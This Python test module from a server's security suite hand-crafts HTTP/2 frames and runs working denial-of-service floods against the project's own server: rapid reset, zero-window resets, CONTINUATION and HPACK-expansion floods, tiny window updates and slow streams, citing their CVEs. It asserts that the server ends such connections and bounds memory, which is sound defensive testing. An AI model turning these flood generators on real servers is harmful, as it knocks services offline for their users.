"""Floods by HTTP/2: memory of closed windows, rapid reset, control frames, endless and expanding heads, slow streams.

    H2 ─ frames made by hand, fields as literals without Huffman ─► server
       ◄─ frames taken apart; of a field block only the status is known, where it is one byte of the static table
"""
import contextlib
import select
import struct
import time

from attackers import STAND_IN, AttackRig, attack, expect, wait_for_ends
from rig import BEARER, KIB, MIB, PATIENCE, TOKEN, Fault, ready

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
ACK = END_STREAM = 1
END_HEADERS = 4
INITIAL_WINDOW_SIZE = 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
STATUS_200 = 0x88  # RFC 7541, appendix A
STREAMS = 128  # the default of `limits.streams`

# The promise of docs/security.md: bytes read but not sent, for the process and for each open stream.
UNSENT_BYTES_MAX, STREAM_BYTES_MAX = 64 * MIB, 8 * KIB


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    return b"\0" + length(len(name), 7) + name + length(len(value), 7) + value


def length(value: int, bits: int) -> bytes:
    """An integer whose prefix has `bits` bits (RFC 7541 §5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([value])
    value, result = value - most, bytes([most])
    while value >= 128:
        value, result = value >> 7, result + bytes([value & 127 | 128])
    return result + bytes([value])


def head(path: str, method: bytes = b"GET", fields: dict[str, str] | None = None) -> bytes:
    block = b"".join((literal(b":method", method), b"\x86", literal(b":authority", b"localhost"),
                      literal(b":path", path.encode())))
    return block + b"".join(literal(name.encode(), value.encode()) for name, value in (fields or {}).items())


def get(stream: int, path: str, fields: dict[str, str] | None = None) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, head(path, fields=fields))


def window(stream: int, bytes_: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", bytes_))


class H2:
    """An HTTP/2 client of prior knowledge."""

    def __init__(self, server, *, source: str = "127.0.0.1", receive_bytes: int | None = None,
                 initial_window: int | None = None):
        self.rig = server.rig
        self.socket = server.connect(source, receive_bytes=receive_bytes)
        self.heads, self.bodies, self.resets = {}, {}, {}
        self.ended: set[int] = set()
        self.pongs, self.goaway, self.over = 0, None, False
        values = struct.pack(">HI", INITIAL_WINDOW_SIZE, initial_window) if initial_window is not None else b""
        self.send(PREFACE + frame(SETTINGS, 0, 0, values))

    def send(self, bytes_: bytes) -> None:
        """Sends, and drops the bytes where the server has ended the connection."""
        self.socket.settimeout(PATIENCE)
        try:
            self.socket.sendall(bytes_)
        except ConnectionError:
            self.over = True

    def read(self, wait: float = 0.0) -> None:
        """Takes the frames that have arrived."""
        received = self.socket.received
        while not self.over and ready([self.socket], wait):
            self.over, wait = not self.socket.more("a frame"), 0.0
            while len(received) >= 9 and len(received) >= (end := 9 + int.from_bytes(received[:3], "big")):
                kind, flags, stream = struct.unpack(">BBI", received[3:9])
                self._frame(kind, flags, stream & 0x7fffffff, self.socket.take(end)[9:])

    def _frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == HEADERS:
            self.heads.setdefault(stream, payload)
        elif kind == DATA:
            self.bodies[stream] = self.bodies.get(stream, b"") + payload
        elif kind == RST_STREAM:
            self.resets[stream] = int.from_bytes(payload, "big")
        elif kind == GOAWAY:
            self.goaway = int.from_bytes(payload[4:8], "big")
        elif kind == PING and flags & ACK:
            self.pongs += 1
        if kind in (HEADERS, DATA) and flags & END_STREAM or kind == RST_STREAM:
            self.ended.add(stream)

    def until(self, test, complaint: str) -> None:
        """Reads until `test()` holds."""
        deadline = time.monotonic() + self.rig.patience
        while not test():
            if self.over or time.monotonic() > deadline:
                raise Fault(f"{complaint}{': the connection ended' if self.over else ''} (GOAWAY: {self.goaway})")
            self.read(0.05)

    def ping(self) -> None:
        """Returns once the server has processed all frames sent before."""
        target = self.pongs + 1
        self.send(frame(PING, 0, 0, bytes(8)))
        self.until(lambda: self.pongs >= target, "a PING got no response")

    def is_ending(self) -> bool:
        self.read()
        return self.over or self.goaway is not None

    def until_ending(self, complaint: str) -> None:
        self.rig.until(self.is_ending, complaint)

    def until_served(self, stream: int) -> None:
        self.until(lambda: stream in self.ended, f"stream {stream} has no end")
        if stream in self.resets or self.heads[stream][:1] != bytes([STATUS_200]):
            raise Fault(f"stream {stream}: {self.heads.get(stream)}, reset {self.resets.get(stream)}")


def flood(client: H2, frames, bytes_max: int = 64 * MIB) -> int:
    """Sends these batches until the server ends the connection; returns the number of batches sent."""
    client.socket.setblocking(False)
    count = sent = 0
    deadline = time.monotonic() + client.rig.patience
    for batch in frames:
        while batch:
            if client.is_ending():
                return count
            if sent > bytes_max or time.monotonic() > deadline:
                raise Fault(f"a flood of {sent} bytes does not end the connection")
            if not ready([client.socket], 0.05, select.POLLOUT):
                continue
            try:
                taken = client.socket.send(batch)
            except ConnectionError:
                return count
            sent, batch = sent + taken, batch[taken:]
        count += 1
    client.until_ending(f"a flood of {count} batches, {sent} bytes, does not end the connection")
    return count


def shut_windows(rig: AttackRig, server, connections: int, path: str, fields: dict | None = None) -> str:
    """Opens `connections` × 128 streams with a window of 0 for a path, and judges the memory that they hold."""
    before = server.anonymous_bytes()
    with server.innocent(push=True) as innocent:
        most, clients = 0, []
        for number in range(connections):
            client = H2(server, initial_window=0)
            client.send(b"".join(get(stream, path, fields) for stream in range(1, 2 * STREAMS, 2)))
            clients.append(client)
            if number % 10 == 9:
                most = max(most, server.anonymous_bytes())
        heads = 0
        for client in clients:
            client.ping()
            client.until(lambda: len(client.heads) + len(client.resets) >= STREAMS, "a stream has no response")
            heads += len(client.heads)
            most = max(most, server.anonymous_bytes())
        innocent.served()
        most = max(most, server.anonymous_bytes())
    streams, grown = connections * STREAMS, most - before
    bound = UNSENT_BYTES_MAX + streams * STREAM_BYTES_MAX
    if heads < streams // 2:
        raise Fault(f"{heads} of {streams} streams have a response: the attack did not work as intended")
    figures = f"{connections} x {STREAMS} streams: memory +{grown / MIB:.0f} MiB, at most {bound / MIB:.0f}"
    if grown > bound:
        raise Fault(figures)
    return f"{figures}; {innocent}"


@attack()
def shut_windows_of_large_files_hold_little_memory(rig: AttackRig) -> str:
    """60 connections request a file of 1 MiB 128 times, with a window of 0: memory grows by less than 64 MiB and 8 KiB a
    stream.

    A file and channels must be served meanwhile."""
    server = rig.server()
    server.file("large.bin", MIB)
    return shut_windows(rig, server, 60, "/large.bin")


@attack()
def shut_windows_of_small_files_hold_little_memory(rig: AttackRig) -> str:
    """30 connections request a file of 30 KiB 128 times, with a window of 0: memory grows by less than 64 MiB and 8 KiB a
    stream.

    A file and channels must be served meanwhile."""
    server = rig.server()
    server.file("page.html", 30 * KIB)
    return shut_windows(rig, server, 30, "/page.html")


@attack()
def shut_windows_of_event_streams_hold_little_memory(rig: AttackRig) -> str:
    """20 connections open 128 event streams on a channel with 1 MiB of history, with a window of 0: memory grows by less
    than 64 MiB and 8 KiB a stream.

    A file and channels must be served meanwhile."""
    server = rig.server({"push": {"admission": "off"}})
    for number in range(32):
        expect(server.ask("/push/history", "POST", f"{number}" + "x" * 30_000, BEARER), 201, None, "a publish")
    return shut_windows(rig, server, 20, "/push/history?since=all", {"accept": "text/event-stream"})


@attack(undefended=STAND_IN)
def rapid_reset_ends_the_connection(rig: AttackRig) -> str:
    """A client opens and resets streams endlessly (CVE-2023-44487): its connection ends within 20,000.

    A file must be served meanwhile, and a stream of another connection."""
    return flooded(rig, lambda: (b"".join(get(stream, "/small.txt") + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                                          for stream in range(first, first + 200, 2)) for first in range(1, 40_000, 200)), 100)


@attack(undefended=STAND_IN)
def resets_provoked_from_the_server_end_the_connection(rig: AttackRig) -> str:
    """A client makes the server reset streams endlessly, by window updates of 0 (CVE-2025-8671): its connection ends
    within 20,000.

    A file must be served meanwhile, and a stream of another connection."""
    return flooded(rig, lambda: (b"".join(get(stream, "/small.txt") + window(stream, 0) for stream in
                                          range(first, first + 200, 2)) for first in range(1, 40_000, 200)), 100)


@attack(undefended=STAND_IN)
def control_frames_end_the_connection(rig: AttackRig) -> str:
    """A client sends 200,000 frames of PING, SETTINGS, WINDOW_UPDATE, PRIORITY or an unknown type: its connection ends.

    A file must be served meanwhile, and a stream of another connection."""
    kinds = {"PING": frame(PING, 0, 0, bytes(8)), "SETTINGS": frame(SETTINGS, 0, 0), "WINDOW_UPDATE": window(0, 1),
             "PRIORITY": frame(PRIORITY, 0, 1, b"\0\0\0\0\1"), "unknown": frame(0xfa, 0, 1, b"?")}
    return "; ".join(f"{name} {flooded(rig, lambda: (chore * 100 for _ in range(2000)), 100)}" for name, chore in kinds.items())


@attack(undefended=STAND_IN)
def empty_data_ends_the_connection(rig: AttackRig) -> str:
    """A client sends 200,000 frames of DATA without content on an open stream: its connection ends.

    A file must be served meanwhile, and a stream of another connection."""
    fields = {"authorization": f"Bearer {TOKEN}", "content-type": "text/plain"}
    post = frame(HEADERS, END_HEADERS, 1, head("/push/empty", b"POST", fields))
    return flooded(rig, lambda: (frame(DATA, 0, 1) * 100 for _ in range(2000)), 100, first=post)


@attack(undefended=STAND_IN)
def endless_continuation_ends_the_connection(rig: AttackRig) -> str:
    """A client continues a head endlessly (CVE-2024-27316), empty or with fields: its connection ends within 20 MiB.

    Memory grows by less than 8 MiB. A file must be served meanwhile, and a stream of another connection."""
    texts = []
    for name, fields in {"empty": b"", "with fields": literal(b"x", b"y" * 1000)}.items():
        begin = frame(HEADERS, END_STREAM, 1, head("/small.txt"))
        texts.append(f"{name}: {flooded(rig, lambda: (frame(CONTINUATION, 0, 1, fields) * 20 for _ in range(1000)), 20, begin)}")
    return "; ".join(texts)


@attack(undefended=STAND_IN)
def expanding_heads_end_the_connection(rig: AttackRig) -> str:
    """A client names a field of 3,000 bytes by one byte, 16,000 times per head: its connection ends within 100 heads.

    Memory grows by less than 8 MiB. A file must be served meanwhile, and a stream of another connection."""
    remembered = b"\x40" + length(1, 7) + b"x" + length(3000, 7) + b"y" * 3000
    begin = frame(HEADERS, END_HEADERS | END_STREAM, 1, head("/small.txt") + remembered)
    return flooded(rig, lambda: (frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/small.txt") + b"\xbe" * 16_000)
                                 for stream in range(3, 203, 2)), 1, begin)


@attack(undefended=STAND_IN)
def windows_of_a_byte_end_the_connection(rig: AttackRig) -> str:
    """A client opens its window byte by byte (CVE-2019-9511), 200,000 times: its connection ends.

    A file must be served meanwhile, and a stream of another connection."""
    return flooded(rig, lambda: (window(1, 1) * 100 for _ in range(2000)), 100, get(1, "/page.bin"), initial_window=0)


def flooded(rig: AttackRig, frames, frames_per_batch: int, first: bytes = b"", **client_options) -> str:
    """Sends a flood, and judges its end, the memory of the server and the service of the others."""
    server = rig.server()
    server.file("page.bin", MIB)
    before = server.anonymous_bytes()
    with server.innocent() as innocent:
        other = None if rig.stand_in else H2(server)
        client = H2(server, **client_options)
        client.send(first)
        sent = flood(client, frames()) * frames_per_batch
        if other:
            other.send(get(1, "/small.txt"))
            other.until_served(1)
        grown = server.anonymous_bytes() - before
    if grown > 8 * MIB:
        raise Fault(f"a flood of {sent} frames increased memory by {grown // KIB} KiB")
    return f"ended within {sent + frames_per_batch}, memory +{max(grown, 0) // KIB} KiB, {innocent.rounds} rounds"


@attack(undefended={"limits": {"streams": 100_000}})
def streams_beyond_the_limit_are_refused(rig: AttackRig) -> str:
    """A client opens 1,000 event streams on a connection where `streams` is 128: at most 128 are open, and the others are
    refused, or the connection ends.

    A file and channels must be served meanwhile."""
    server = rig.server({"push": {"admission": "off"}})
    with server.innocent(push=True) as innocent:
        client = H2(server)
        client.send(b"".join(get(stream, "/push/many", {"accept": "text/event-stream"}) for stream in range(1, 2000, 2)))
        client.until(lambda: client.over or client.goaway is not None or len(client.heads) + len(client.resets) >= 1000,
                     "a stream beyond the limit has no response")
        opened = len(client.heads.keys() - client.resets.keys())
        innocent.served()
    if opened > STREAMS:
        raise Fault(f"{opened} streams are open at a time")
    return f"{opened} of 1,000 opened; {innocent}"


@attack(undefended={"limits": {"head_time": "1h", "idle_time": "1h"}})
def unfinished_heads_end_by_head_time(rig: AttackRig) -> str:
    """200 connections send nothing after the preface, or a head byte by byte while an event stream is open: each ends after
    `head_time`.

    A file must be served meanwhile."""
    server = rig.server({"limits": {"head_time": "2s"}})
    with server.innocent() as innocent:
        silent = [H2(server) for _ in range(100)]
        slow = [H2(server) for _ in range(100)]
        for client in slow:
            client.send(get(1, "/push/slow", {"accept": "text/event-stream"}) + frame(HEADERS, END_STREAM, 3, b"\x82"))

        def continue_heads(rest: list[H2]) -> None:
            for client in set(rest).intersection(slow):
                client.send(frame(CONTINUATION, 0, 3, b"\x86"))

        wait_for_ends(rig, silent + slow, "connections without a complete head", continue_heads, H2.is_ending, pause=0.3)
    return f"200 of 200 ended; {innocent}"


@attack(long=True, undefended={"limits": {"body_rate": "1B/s"}})
def slow_bodies_of_streams_end_by_body_rate(rig: AttackRig) -> str:
    """20 connections send 20 bodies each, 10 bytes per second: each stream ends, `body_rate` being 240 B/s over 10 s.

    A file and channels must be served meanwhile."""
    server = rig.server()
    fields = {"authorization": f"Bearer {TOKEN}", "content-type": "text/plain"}
    streams = range(1, 41, 2)
    with server.innocent(push=True) as innocent:
        clients = [H2(server) for _ in range(20)]
        for client in clients:
            client.send(b"".join(frame(HEADERS, END_HEADERS, stream, head("/push/slow", b"POST", fields)) for stream in streams))
        slow_streams(rig, clients, streams, "slow bodies", lambda stream: frame(DATA, 0, stream, b"y" * 5), 0.5)
    return f"400 of 400 ended; {innocent}"


@attack(long=True, undefended={"limits": {"write_rate": "1B/s"}})
def narrow_windows_end_by_write_rate(rig: AttackRig) -> str:
    """20 connections request a file 20 times each, and open its window by 10 bytes per second: each stream ends, `write_rate`
    being 240 B/s over 10 s.

    A file must be served meanwhile."""
    server = rig.server()
    server.file("page.bin", MIB)
    streams = range(1, 41, 2)
    with server.innocent() as innocent:
        clients = [H2(server, initial_window=0) for _ in range(20)]
        for client in clients:
            client.send(b"".join(get(stream, "/page.bin") for stream in streams))
        slow_streams(rig, clients, streams, "narrow windows", lambda stream: window(stream, 20), 2)
    return f"400 of 400 ended; {innocent}"


def slow_streams(rig: AttackRig, clients: list[H2], streams: range, name: str, step, pause: float) -> None:
    """Repeats a step on each stream until the server has ended the stream."""
    deadline = time.monotonic() + rig.patience
    while True:
        rest = 0
        for client in clients:
            client.read()
            open_ = [] if client.over else [stream for stream in streams if stream not in client.ended]
            client.send(b"".join(step(stream) for stream in open_))
            rest += len(open_)
        if not rest:
            return
        if time.monotonic() > deadline:
            raise Fault(f"{name}: {rest} of {len(clients) * len(streams)} streams are still open")
        time.sleep(pause)


@attack(long=True, undefended={"limits": {"write_rate": "1B/s"}})
def full_sockets_end_by_write_rate(rig: AttackRig) -> str:
    """50 clients with windows of 2 GiB request a file of 64 MiB, and read 4 KiB per second from the socket: each connection
    ends, `write_rate` being 64 KiB/s.

    A file must be served meanwhile."""
    server = rig.server({"limits": {"write_rate": "64KiB/s"}})
    with server.innocent() as innocent:
        rest, deadline = full_sockets(server, 50), time.monotonic() + rig.patience
        while rest:
            if time.monotonic() > deadline:
                raise Fault(f"{len(rest)} of 50 connections with a full socket are open")
            for client in list(rest):
                client.socket.setblocking(False)
                with contextlib.suppress(BlockingIOError):
                    try:
                        piece = client.socket.recv(4 * KIB)
                    except ConnectionError:
                        piece = b""
                    if not piece:
                        rest.remove(client)
            time.sleep(1)
    return f"50 of 50 ended; {innocent}"


@attack()
def full_sockets_hold_little_memory(rig: AttackRig) -> str:
    """200 clients with windows of 2 GiB request a file of 64 MiB, and read nothing from the socket: memory grows by less
    than 64 MiB, 8 KiB a stream and 160 KiB a connection: buffers of the `h2` crate, and one frame beyond its share. Ten
    runs measured 72 to 89 MiB, a server without the shared limit 119 MiB.

    A file and channels must be served meanwhile."""
    server = rig.server()
    before = server.anonymous_bytes()
    with server.innocent(push=True) as innocent:
        clients = full_sockets(server, 200)
        # Bytes that arrive show that the response has begun; two further rounds let it fill its buffers.
        rig.until(lambda: all(ready([client.socket]) for client in clients), "no response")
        innocent.served()
        innocent.served()
        grown = server.anonymous_bytes() - before
    bound = UNSENT_BYTES_MAX + 200 * (STREAM_BYTES_MAX + 160 * KIB)
    figures = f"200 connections: memory +{grown / MIB:.0f} MiB, at most {bound / MIB:.0f}"
    if grown > bound:
        raise Fault(figures)
    return f"{figures}; {innocent}"


def full_sockets(server, count: int) -> list[H2]:
    """Clients with small receive buffers that have requested a large file, and read nothing."""
    server.file("large.bin", 64 * MIB)
    clients = [H2(server, receive_bytes=4 * KIB, initial_window=0x7fffffff) for _ in range(count)]
    for client in clients:
        client.send(window(0, 0x7fff0000 - 65_535) + get(1, "/large.bin"))
    return clients
